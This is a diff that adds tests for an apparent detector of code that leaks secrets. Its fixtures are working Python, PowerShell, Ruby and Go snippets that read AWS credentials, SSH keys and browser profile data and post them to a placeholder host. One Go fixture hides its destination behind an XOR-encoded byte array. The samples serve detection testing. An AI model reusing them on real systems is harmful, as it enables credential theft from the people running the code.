@@ -820,6 +820,28 @@ func push(c *http.Client) {
     });
   });
 
+  describe('loops over literal lists: every distinct item, not the first', () => {
+    it('Python for, PowerShell foreach and Ruby each read the credential that is not first in the list', () => {
+      expect(secretToUntrusted(py('import os, requests\nd = []\nfor p in ["~/.config/a/settings.ini", "~/.aws/credentials"]:\n    d.append(open(os.path.expanduser(p)).read())\nrequests.post("https://c.example.invalid/x", data="".join(d))\n'))).toBe(true);
+      expect(secretToUntrusted(ps('$d = ""\nforeach ($p in @("$env:USERPROFILE\\notes.ini", "$env:USERPROFILE\\.ssh\\id_rsa")) { $d += Get-Content $p -Raw }\nInvoke-RestMethod -Uri "https://c.example.invalid/x" -Method Post -Body $d\n'))).toBe(true);
+      expect(secretToUntrusted(rb('require "net/http"\ndata = ""\n[File.expand_path("~/.gitconfig"), File.expand_path("~/.ssh/id_ed25519")].each do |p|\n  data << File.read(p)\nend\nNet::HTTP.post(URI("https://c.example.invalid/x"), data)\n'))).toBe(true);
+    });
+    it('a list of harmless paths stays harmless', () => {
+      const es = py('import os, requests\nfor p in ["~/.config/a/settings.ini", "~/notes.txt"]:\n    requests.post("https://c.example.invalid/x", data=open(os.path.expanduser(p)).read())\n');
+      expect(es.some((e) => e.kind === 'read' && e.secret)).toBe(false);
+    });
+    it('Go: every branch of a function returning a list per OS is walked', () => {
+      const es = go('package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"runtime"\n)\n\nfunc dirs(h string) []string {\n\tswitch runtime.GOOS {\n\tcase "darwin":\n\t\treturn []string{filepath.Join(h, "Library", "Caches")}\n\tdefault:\n\t\treturn []string{filepath.Join(h, ".cache"), filepath.Join(h, ".mozilla", "firefox")}\n\t}\n}\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tvar buf bytes.Buffer\n\tfor _, p := range dirs(h) {\n\t\tfilepath.Walk(p, func(f string, i os.FileInfo, err error) error {\n\t\t\tb, _ := os.ReadFile(f)\n\t\t\tbuf.Write(b)\n\t\t\treturn nil\n\t\t})\n\t}\n\thttp.Post("https://c.example.invalid/x", "application/octet-stream", &buf)\n}\n');
+      expect(secretToUntrusted(es)).toBe(true);
+    });
+    it('Go: a host a function decodes out of a byte-array literal is the author\'s, not a configured one', () => {
+      const es = go('package main\n\nimport "net/http"\n\nvar enc = []byte{0x49, 0x56, 0x57, 0x54, 0x1f, 0x09, 0x08, 0x13, 0x12, 0x10}\n\nfunc k(b []byte) string {\n\to := make([]byte, len(b))\n\tfor i, c := range b {\n\t\to[i] = c ^ byte(0x21+i%7)\n\t}\n\treturn string(o)\n}\n\nfunc main() {\n\thttp.Post(k(enc)+"/u", "text/plain", nil)\n}\n');
+      expect(find(es, 'send')?.hostClass).toBe('unknown');
+      const plain = go('package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc main() {\n\thttp.Post(os.Getenv("ENDPOINT")+"/u", "text/plain", nil)\n}\n');
+      expect(find(plain, 'send')?.hostClass).toBe('configured');
+    });
+  });
+
   describe('robustness', () => {
     it('garbage, binary, deep nesting and half-written scripts return effects or [] and never throw', () => {
       const samples = [
